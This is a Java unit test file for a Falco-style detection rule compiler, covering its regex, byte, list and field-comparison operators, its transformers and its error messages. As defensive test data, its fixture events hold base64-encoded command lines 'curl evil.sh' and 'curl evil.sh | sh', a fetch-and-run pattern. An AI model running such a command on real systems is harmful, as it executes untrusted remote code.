package dev.peregrine.engine.condition;

import static dev.peregrine.collector.event.StandardFields.EVT_TYPE;
import static dev.peregrine.collector.event.StandardFields.FD_NAME;
import static dev.peregrine.collector.event.StandardFields.PROC_CMDLINE;
import static dev.peregrine.collector.event.StandardFields.PROC_EXE;
import static dev.peregrine.collector.event.StandardFields.PROC_NAME;
import static dev.peregrine.collector.event.StandardFields.PROC_PID;
import static dev.peregrine.collector.event.StandardFields.PROC_PNAME;
import static dev.peregrine.collector.event.StandardFields.PROC_PPID;
import static org.assertj.core.api.Assertions.assertThat;

import dev.peregrine.collector.event.Event;
import dev.peregrine.collector.event.FieldRegistry;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Falco's regex, byte, list and field-to-field operators and its transformers. */
class OperatorsAndTransformersTest {

    private static final ConditionCompiler COMPILER = new ConditionCompiler(FieldRegistry.standard());

    private static Event event() {
        return Event.builder().time(1L)
                .set(EVT_TYPE, "execve")
                .set(PROC_NAME, "Bash")
                .set(PROC_PNAME, "bash")
                .set(PROC_EXE, "/usr/bin/bash")
                .set(PROC_PID, 10L)
                .set(PROC_PPID, 3L)
                .set(PROC_CMDLINE, "echo " + Base64.getEncoder().encodeToString("curl evil.sh".getBytes()))
                .set(FD_NAME, "/proc/1/cmdline")
                .extra("ka.groups", List.of("system:masters", "dev"))
                .build();
    }

    private static boolean matches(final String condition) {
        final ConditionCompiler.Result result = COMPILER.compile(condition, ConditionScope.empty());
        assertThat(result.errors()).as("errors compiling %s", condition).isEmpty();
        return result.predicate().test(event());
    }

    private static List<String> errors(final String condition) {
        return COMPILER.compile(condition, ConditionScope.empty()).errors().stream()
                .map(e -> e.offset() + ": " + e.message()).toList();
    }

    @ParameterizedTest(name = "{0} is {1}")
    @CsvSource(delimiter = '|', textBlock = """
            fd.name regex '/proc/[0-9]+/cmdline'          | true
            fd.name regex '[0-9]+'                        | false
            fd.name regex 'proc'                          | false
            fd.name regex '.*proc.*'                      | true
            fd.name bcontains 70726f63                    | true
            fd.name bcontains 2F70726F632F                | true
            fd.name bcontains CAFEBABE                    | false
            fd.name bstartswith 2f70                      | true
            fd.name bstartswith 70726f63                  | false
            ka.groups intersects (system:masters, admin)  | true
            ka.groups intersects (admin)                  | false
            ka.groups in (system:masters, dev, admin)     | true
            ka.groups in (system:masters)                 | false
            proc.name in (Bash)                           | true
            """)
    void regexIsAWholeValueMatchAndByteOperatorsTakeHex(final String condition, final boolean expected) {
        assertThat(matches(condition)).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0} is {1}")
    @CsvSource(delimiter = '|', textBlock = """
            tolower(proc.name) = bash                     | true
            proc.name = bash                              | false
            toupper(proc.name) = BASH                     | true
            basename(proc.exe) = bash                     | true
            basename(fd.name) = cmdline                   | true
            b64(proc.cmdline) contains curl               | false
            toupper(basename(proc.exe)) = BASH            | true
            len(proc.name) = 4                            | true
            len(proc.name) > 4                            | false
            tolower(proc.name) = val(proc.pname)          | true
            proc.name = val(proc.pname)                   | false
            proc.name != val(proc.pname)                  | true
            proc.pid > val(proc.ppid)                     | true
            proc.pid < val(proc.ppid)                     | false
            proc.exe endswith val(proc.pname)             | true
            proc.name = val(container.name)               | false
            tolower(proc.name) = tolower(proc.pname)      | true
            proc.name = toupper(proc.pname)               | false
            toupper(proc.name) = toupper(basename(proc.exe)) | true
            """)
    void transformersApplyToTheLeftAndValComparesTwoFields(final String condition, final boolean expected) {
        assertThat(matches(condition)).isEqualTo(expected);
    }

    @Test
    void b64DecodesTheWholeValueAndIsMissingWhenItIsNotBase64() {
        final Event encoded = event().with(PROC_CMDLINE,
                Base64.getEncoder().encodeToString("curl evil.sh | sh".getBytes()));
        final EventPredicate predicate = COMPILER.compile("b64(proc.cmdline) startswith curl", ConditionScope.empty())
                .predicate();
        assertThat(predicate.test(encoded)).isTrue();
        assertThat(predicate.test(event())).isFalse();
        final EventPredicate negated = COMPILER.compile("not b64(proc.cmdline) startswith curl",
                ConditionScope.empty()).predicate();
        assertThat(negated.test(event())).isTrue();
    }

    @Test
    void basenameOfADirectoryPathIsEmptyAsInFalco() {
        final Event dir = event().with(PROC_EXE, "/usr/bin/");
        assertThat(COMPILER.compile("basename(proc.exe) = ''", ConditionScope.empty()).predicate().test(dir)).isTrue();
    }

    @Test
    void invalidRegexIsReportedAtTheValue() {
        assertThat(errors("fd.name regex '(unclosed'")).singleElement().asString()
                .startsWith("14: invalid regex '(unclosed': Unclosed group");
    }

    @Test
    void byteOperatorsNeedAnEvenRunOfHexDigits() {
        assertThat(errors("fd.name bcontains xyz")).containsExactly(
                "18: value 'xyz' is not a hex byte string, but 'bcontains' compares bytes, e.g. bcontains CAFEBABE");
        assertThat(errors("fd.name bstartswith ABC")).containsExactly(
                "20: value 'ABC' is not a hex byte string, but 'bstartswith' compares bytes, e.g. bstartswith CAFEBABE");
    }

    @Test
    void transformerErrorsSayWhatIsWrongWhereItIsWritten() {
        assertThat(errors("reverse(proc.name) = x")).containsExactly(
                "0: unknown transformer 'reverse'; expected one of tolower, toupper, b64, basename, len");
        assertThat(errors("tolower(proc.pid) = x")).containsExactly(
                "0: transformer 'tolower' needs a string, but 'proc.pid' is an int");
        assertThat(errors("len(proc.name) contains x")).containsExactly(
                "15: operator 'contains' needs a string field, but 'len(proc.name)' is an int");
        assertThat(errors("tolower(proc.nme) = x")).containsExactly(
                "8: unknown field 'proc.nme' (did you mean 'proc.name'?)");
    }

    @Test
    void valErrorsNameBothFields() {
        assertThat(errors("proc.name = val(proc.pid)")).containsExactly(
                "12: 'proc.name' is a string but 'proc.pid' is an int; val() compares fields of the same type");
        assertThat(errors("fd.name regex val(proc.name)")).containsExactly(
                "8: operator 'regex' cannot compare with another field; use a constant value");
        assertThat(errors("proc.name = val(proc.nme)")).containsExactly(
                "16: unknown field 'proc.nme' (did you mean 'proc.name'?)");
    }

    @Test
    void transformerSyntaxErrorsArePositioned() {
        assertThat(errors("tolower(proc.name = x")).singleElement().asString()
                .isEqualTo("18: expected ')' to close 'tolower(', found '='");
        assertThat(errors("tolower(proc.name) and x")).singleElement().asString()
                .isEqualTo("19: expected an operator after 'tolower(...)', found 'and'");
    }

    @Test
    void transformerOnTheRightIsCheckedLikeOneOnTheLeft() {
        assertThat(errors("proc.name = tolower(proc.nme)")).containsExactly(
                "20: unknown field 'proc.nme' (did you mean 'proc.name'?)");
        assertThat(errors("proc.name = tolower(proc.pid)")).containsExactly(
                "12: transformer 'tolower' needs a string, but 'proc.pid' is an int");
        assertThat(errors("proc.name = tolower(proc.pname")).singleElement().asString()
                .isEqualTo("12: unbalanced parenthesis: 'tolower(' is never closed");
    }
}
